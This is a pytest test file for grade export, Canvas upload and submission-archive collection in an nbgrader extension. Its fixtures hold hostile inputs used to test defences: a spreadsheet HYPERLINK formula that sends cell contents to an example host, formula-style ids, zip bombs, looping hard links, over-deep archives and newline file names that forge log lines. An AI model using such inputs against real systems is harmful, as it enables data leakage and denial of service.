"""Work from learning platforms, and grades for them: real nbgrader, and stand-ins that send and take."""

import csv
import io
import re
import tarfile
import zipfile
from pathlib import Path

import learning_platforms as platforms
import pytest
from grading_class import a_class, nbgrader, scores
from nbgrader.api import Gradebook
from nbgrader.apps import ExportApp, ZipCollectApp

from autograder.authoring.scratch_course import ScratchCourse

NAME, MOST = "traps", 16.0  # points
ONE, REALLY = f"--assignment=['{NAME}']", "--CanvasUpload.really=True"
# Student -> points for every test; None for who handed in nothing.
STUDENTS = {"ada": 1.0, "o'brien": 0.5, "josé-ñ": 0.0, "0012345": 1.0, "absent": None, "waiting": None}
FLANN = "o'brien"
FIRST = {"ada": "Ada", "o'brien": "Flann, jr.", "josé-ñ": "José"}


@pytest.fixture(scope="module")
def graded(tmp_path_factory: pytest.TempPathFactory) -> ScratchCourse:
    """A course with one assignment; one student is late, and one test of another waits for a decision."""
    course = a_class(tmp_path_factory.mktemp("lms"), students=())
    enter(course, {student: (FIRST.get(student), "Last", share) for student, share in STUDENTS.items()})
    (course.folder / "submitted" / "waiting" / NAME).mkdir(parents=True)
    return course


def enter(course: ScratchCourse, people: dict[str, tuple], before: str = "") -> None:
    """Students with their names, and the same part of the points in each test; None: nothing handed in."""
    with Gradebook(course.db_url) as gradebook:
        for student, (first, last, share) in people.items():
            about = {"first_name": first, "last_name": last, "email": f"{before}{student}@example.org"}
            gradebook.add_student(student, **about)
            for notebook in [] if share is None else gradebook.add_submission(NAME, student).notebooks:
                for grade in notebook.grades:
                    grade.auto_score = share * grade.max_score
                    grade.needs_manual_grade = student == "0012345"
                notebook.late_submission_penalty = 0.25 if student == "ada" else None
        gradebook.db.commit()


def export(course: ScratchCourse, exporter: str, *more: str, **ends: int) -> str:
    about = [f"--exporter=autograder.extras.lms.{exporter}", *(more or [ONE])]
    return nbgrader(course, ExportApp, *about, **ends)


def canvas_course() -> platforms.CanvasCourse:
    """Logins in other letters; one student has only a SIS id, and one nobody here knows."""
    people = {
        11: {"name": "Lovelace, Ada", "login_id": "ADA"},
        12: {"name": "O'Brien, Flann", "login_id": "o'brien"},
        13: {"name": "Ñandú, José María", "login_id": "jn12", "sis_user_id": "josé-ñ"},
        14: {"name": "Zero, Stu", "login_id": "0012345"},
        15: {"name": "Away, Far", "login_id": "absent"},
        16: {"name": "Guest, Some", "login_id": "guest"},
    }
    assignments = {3: (NAME, MOST), 4: ("Essay", 10.0)}
    return platforms.CanvasCourse(people, assignments, {(3, 12): 0.25, (3, 15): 1.0})


def test_moodle_takes_the_file(graded: ScratchCourse) -> None:
    said = export(graded, "Moodle")
    text = (graded.folder / "moodle.csv").read_text(encoding="utf-8")
    taken = platforms.imported_by_moodle(set(STUDENTS), {NAME: MOST}, text)
    assert {student: found[NAME] for student, found in taken.items()} == scores(graded.db_url)
    assert "Flann, jr." in text and "1 handed in nothing, and have no points here: absent" in said
    assert "1 are not graded yet, and have no points here: waiting" in said
    assert "1 have a test that waits for your decision; their points are those so far: 0012345" in said


def test_exercises_can_have_columns(graded: ScratchCourse) -> None:
    more = ("--Moodle.by_exercise=True", "--to=exercises.csv", "--student=['ada','josé-ñ']")
    export(graded, "Moodle", ONE, *more)
    text = (graded.folder / "exercises.csv").read_text(encoding="utf-8")
    header = text.splitlines()[0].split(",")
    assert {f"{NAME}: double", f"{NAME}: square", f"{NAME}: negate"} <= set(header)
    taken = platforms.imported_by_moodle(set(STUDENTS), dict.fromkeys(header[4:], MOST), text)
    assert taken.keys() == {"ada", "josé-ñ"}
    exercises = sum(taken["ada"][name] for name in header[5:])
    assert exercises == MOST  # the penalty is in the whole alone
    assert taken["ada"][NAME] == exercises - 0.25


@pytest.mark.parametrize(("delimiter", "encoding"), [(",", "utf-8"), (";", "utf-8-sig")])
def test_canvas_takes_back_its_file_with_grades(graded: ScratchCourse, delimiter: str, encoding: str) -> None:
    course, mine = canvas_course(), scores(graded.db_url)
    del course.people[12]
    before = dict(course.scores)
    text = platforms.exported_by_canvas(course, delimiter)
    (graded.folder / "canvas.csv").write_text(text, encoding=encoding)
    said = export(graded, "Canvas", ONE, "--Canvas.by_exercise=True")
    platforms.imported_by_canvas(course, (graded.folder / "upload.csv").read_text(encoding="utf-8"))
    new = {(3, 11): mine["ada"], (3, 13): mine["josé-ñ"], (3, 14): mine["0012345"]}
    assert {place: points for place, points in course.scores.items() if place[0] == 3} == before | new
    assert f"{NAME}: double" in [name for name, _ in course.assignments.values()]
    assert "2 in canvas.csv have no points and are left out: absent, guest" in said
    assert "1 have points and are not in canvas.csv: o'brien" in said


FORMULA = '=HYPERLINK("https://example.org/?"&A1, "Ada")'


def test_no_spreadsheet_takes_a_field_for_a_formula(tmp_path: Path) -> None:
    """The files say the same as before to the platforms, which read no formulas."""
    course = a_class(tmp_path / "class", students=())
    enter(course, dict.fromkeys(("ada", "eve", "=1+2", "-x"), (FORMULA, " +Last;\u200b=1", 1.0)), before="@")
    said = export(course, "Moodle")
    text = (course.folder / "moodle.csv").read_text(encoding="utf-8")
    assert platforms.imported_by_moodle({"ada", "eve"}, {NAME: MOST}, text).keys() == {"ada", "eve"}
    assert "2 have ids that a spreadsheet takes for a formula, and are left out" in said
    assert "-x" in said and "=1+2" in said
    eve = {"name": "-2+3", "login_id": "+eve", "sis_user_id": "eve"}
    people = {11: {"name": FORMULA, "login_id": "ada"}, 12: eve}
    canvas = platforms.CanvasCourse(people, {3: (NAME, MOST)}, {})
    (course.folder / "canvas.csv").write_text(platforms.exported_by_canvas(canvas), encoding="utf-8")
    export(course, "Canvas")
    upload = (course.folder / "upload.csv").read_text(encoding="utf-8")
    platforms.imported_by_canvas(canvas, upload)
    assert canvas.scores == {(3, 11): MOST - 0.25, (3, 12): MOST}
    for row in (*csv.reader(io.StringIO(text)), *csv.reader(io.StringIO(upload))):
        assert not [field for field in row if re.search(r"(^|;)[\s\u200b]*[=+@-]", field)]


def to_canvas(address: str, *more: str) -> list[str]:
    """The arguments that send grades there."""
    return ["CanvasUpload", ONE, f"--CanvasUpload.url={address}", "--CanvasUpload.course=7", *more]


def test_grades_are_sent_after_a_look_and_one_that_is_refused_stops_no_other(graded, monkeypatch) -> None:
    monkeypatch.setenv("CANVAS_TOKEN", platforms.TOKEN)
    course, mine = canvas_course(), scores(graded.db_url)
    course.scores[3, 13] = mine["josé-ñ"]
    before = dict(course.scores)
    new = {(3, 11): mine["ada"], (3, 12): mine["o'brien"], (3, 14): mine["0012345"]}
    with platforms.canvas(course) as address:
        said = export(graded, *to_canvas(address))
        assert "3 grades differ, 1 are the same" in said and "Nothing was changed." in said
        changed = [FLANN, NAME, "0.25", "→", f"{mine[FLANN]:g}"]
        assert changed in [line.split() for line in said.splitlines()] and course.scores == before

        course.refuses = {11}
        said = export(graded, *to_canvas(address, REALLY), status=1)
        assert "2 grades were sent" in said
        assert "Canvas refused 1 grades; the same command tries these again." in said
        assert "ada" in said and "grading period is closed" in said
        assert sorted(person for _, person, _ in course.changed) == [12, 14]
        course.refuses = set()
        assert "1 grades were sent" in export(graded, *to_canvas(address, REALLY))
        assert course.scores == before | new
        assert "0 grades differ, 4 are the same" in export(graded, *to_canvas(address, REALLY))
        assert len(course.changed) == 3


def test_what_cannot_be_done_is_said_in_a_sentence(graded: ScratchCourse, monkeypatch) -> None:
    monkeypatch.setenv("CANVAS_TOKEN", platforms.TOKEN)
    for arguments, sentence in [
        (["Moodle", "--to=x.csv"], "Name one, as in --assignment"),
        (["Moodle", "--assignment=['nope']"], "There is no assignment 'nope'"),
        (["Canvas", ONE, "--Canvas.file=none.csv"], "There is no none.csv. Canvas"),
        (to_canvas("http://127.0.0.1:9"), "Canvas at http://127.0.0.1:9 does not show course 7"),
    ]:
        assert sentence in export(graded, *arguments, status=1)
    monkeypatch.delenv("CANVAS_TOKEN")
    assert "An access token in the variable CANVAS_TOKEN" in export(graded, "CanvasUpload", ONE, status=1)
    with platforms.canvas(canvas_course()) as address:
        monkeypatch.setenv("CANVAS_TOKEN", "another")
        assert "does not show course 7" in export(graded, *to_canvas(address), status=1)
        monkeypatch.setenv("CANVAS_TOKEN", platforms.TOKEN)
        said = export(graded, *to_canvas(address, "--CanvasUpload.by_exercise=True"), status=1)
    assert f"Canvas has no assignment '{NAME}: double'. Make it there" in said


# Submissions in the archives of learning platforms reach the students whose they are, and nobody else.

FILE = f"{NAME}.ipynb"
NAMES = [
    ("ada", "Ada", "Lovelace"),
    ("o'brien", "Flann", "O'Brien"),
    ("josé-ñ", "José María", "Ñandú"),
    ("0012345", "Stu", "Zero"),
    ("twin1", "Kim", "Lee"),
    ("twin2", "Kim", "Lee"),
    ("eve", "Eve", "Adams"),
]


@pytest.fixture
def course(tmp_path: Path) -> ScratchCourse:
    """A course with students, to whom nothing belongs yet."""
    made = a_class(tmp_path / "class", students=())
    enter(made, {student: (first, last, None) for student, first, last in NAMES})
    (made.folder / "downloaded" / NAME / "archive").mkdir(parents=True)
    return made


def collect(course: ScratchCourse, collector: str, **ends: int) -> str:
    about = [NAME, "--force", f"--collector=autograder.extras.lms.{collector}"]
    return nbgrader(course, ZipCollectApp, *about, **ends)


def archive(course: ScratchCourse) -> Path:
    return course.folder / "downloaded" / NAME / "archive" / "Fast PyTorch-traps-4711.zip"


def collected(course: ScratchCourse) -> dict[str, dict[str, bytes]]:
    """What each student has handed in: file -> content."""
    found: dict[str, dict[str, bytes]] = {}
    for path in (course.folder / "submitted").glob(f"*/{NAME}/*"):
        found.setdefault(path.parts[-3], {})[path.name] = path.read_bytes()
    return found


def zipped(*files: tuple[str, bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as inner:
        for name, data in files:
            inner.writestr(name, data)
    return content.getvalue()


# Full name -> what is uploaded. In a packed file nobody hands in for another.
OTHER = f"Ada Lovelace_51009_assignsubmission_file_/{FILE}"
OF_MOODLE: list[platforms.Upload] = [
    ("Ada Lovelace", FILE, b"ada"),
    ("Ada Lovelace", f"{NAME} (1).ipynb", b"a copy"),
    ("Ada Lovelace", "data.csv.gz", b"packed"),
    ("Ada Lovelace", "timestamp.txt", b"2020-01-01 00:00:00 UTC"),
    ("O'Brien Flann", f"{NAME} (1).ipynb", b"flann"),  # some sites show the last name first
    ("Ñandú, José María", f"{NAME}(2).ipynb", b"jose"),
    ("Stu Zero", "work.zip", zipped((OTHER, b"zero"), (f"__MACOSX/in/._{FILE}", b"mac"))),
    ("Kim Lee", FILE, b"one of two"),
    ("Mallory Unknown", FILE, b"nobody"),
    # On some sites people choose the names by which the archive knows them; the numbers differ.
    ("Eve Adams", FILE, b"one of two"),
    ("ADAMS Eve", FILE, b"the other"),
]


@pytest.mark.parametrize("folders", [True, False])
def test_moodles_archive_and_a_download_of_it_that_broke_off(course: ScratchCourse, folders: bool) -> None:
    platforms.archive_of_moodle(archive(course), OF_MOODLE, folders=folders)
    said = collect(course, "MoodleArchive")
    assert collected(course) == {
        "ada": {FILE: b"ada", f"{NAME} (1).ipynb": b"a copy", "data.csv.gz": b"packed"},
        "o'brien": {FILE: b"flann"},
        "josé-ñ": {FILE: b"jose"},
        "0012345": {FILE: b"zero"},
    }
    assert "2 students in the gradebook have the name 'Kim Lee'" in said
    assert "2 people on Moodle have the name" in said
    assert "No student in the gradebook has the name 'Mallory Unknown'" in said
    assert "Put it into submitted/ID/traps/ yourself" in said
    archive(course).write_bytes(archive(course).read_bytes()[:-30])  # the download broke off
    assert "cannot be unpacked. Download it once more." in collect(course, "MoodleArchive", status=1)


@pytest.mark.slow
def test_an_archive_that_cannot_be_unpacked_stops_nobody_else(course: ScratchCourse) -> None:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w:gz") as inner:
        info = tarfile.TarInfo("zeros")
        info.size = 201_000_000
        inner.addfile(info, io.BytesIO(bytes(info.size)))
    linked = io.BytesIO()
    with tarfile.open(fileobj=linked, mode="w:gz") as inner:
        for name, target in (("a", "b"), ("b", "a")):
            link = tarfile.TarInfo(name)
            link.type, link.linkname = tarfile.LNKTYPE, target
            inner.addfile(link)
    deep = zipped(*((f"{'a/' * number}b", b"") for number in range(400, 1800, 400)))  # Python stops at 1,000
    uploads = [
        ("Stu Zero", "work.zip", zipped((FILE, b"zero"))[:40]),
        ("Ada Lovelace", "work.zip", zipped(("zeros", bytes(201_000_000)))),
        ("Ada Lovelace", "more.tar.gz", packed.getvalue()),
        ("Ada Lovelace", "links.tar.gz", linked.getvalue()),
        ("Ada Lovelace", "many.zip", zipped(*((f"{number}.txt", b"") for number in range(1001)))),
        ("Ada Lovelace", "deep.zip", deep),
        ("O'Brien Flann", FILE, b"flann"),
    ]
    platforms.archive_of_moodle(archive(course), uploads)
    said = collect(course, "MoodleArchive")
    assert collected(course) == {"o'brien": {FILE: b"flann"}}
    assert said.count("cannot be unpacked and is left out") == 6
    assert "it has folders in more than 20 others" in said
    assert said.count("it would take more than 200 MB") == 2
    assert "'a' is a link or a device" in said and "it has more than 1,000 files" in said
    assert not list(course.folder.rglob("zeros"))


def test_names_in_archives_forge_no_lines_of_the_log(course: ScratchCourse) -> None:
    names = ("a\nforged.py", "in\nforged/b.py", "c\nforged.zip", "helpers.py")
    uploads = [("Ada Lovelace", "work.zip", zipped(*((name, b"x") for name in names)))]
    uploads += [("Ada Lovelace", "d\nforged.py", b"x"), ("O'Brien Flann", "e\nforged.zip", b"no zip file")]
    platforms.archive_of_moodle(archive(course), uploads)
    said = collect(course, "MoodleArchive")
    assert collected(course) == {"ada": {"helpers.py": b"x"}}
    assert not [line for line in said.splitlines() if line.lstrip().startswith("forged")]
    assert said.count("was left out: ") == 5 and r"a\nforged.py" in said


OF_CANVAS: list[platforms.Upload] = [
    ("ADA", f"{NAME}-1.ipynb", b"ada, the second time"),
    ("ADA", f"{NAME}-2.ipynb", b"once more"),
    ("o'brien", FILE, b"flann"),
    ("o'brien", "1_2_data-2.csv", b"1"),
    ("o'brien", "timestamp.txt", b"2020-01-01 00:00:00 UTC"),
    ("jn12", FILE, b"jose"),
    ("0012345", "work.zip", zipped((f"x_11_7009_{FILE}", b"not Ada's"), (FILE, b"zero"))),
    ("guest", FILE, b"nobody"),
]


def test_canvass_archive(course: ScratchCourse) -> None:
    canvas = canvas_course()
    canvas.people[14]["name"] = "Aa_11"
    canvas.people[16]["name"] = "Lovelace, Ada_11"
    platforms.archive_of_canvas(archive(course), canvas, OF_CANVAS, late=["jn12"])
    assert "There is no canvas.csv." in collect(course, "CanvasArchive", status=1)
    (course.folder / "canvas.csv").write_text(platforms.exported_by_canvas(canvas), encoding="utf-8")
    said = collect(course, "CanvasArchive")
    assert collected(course) == {
        "ada": {FILE: b"ada, the second time"},
        "o'brien": {FILE: b"flann", "1_2_data-2.csv": b"1"},
        "josé-ñ": {FILE: b"jose"},
        "0012345": {FILE: b"zero", f"x_11_7009_{FILE}": b"not Ada's"},
    }
    assert "It cannot be told whose 'lovelaceada_11_16_7008_traps.ipynb' is" in said
    assert "ada handed in more than one traps.ipynb; this one is left out" in said
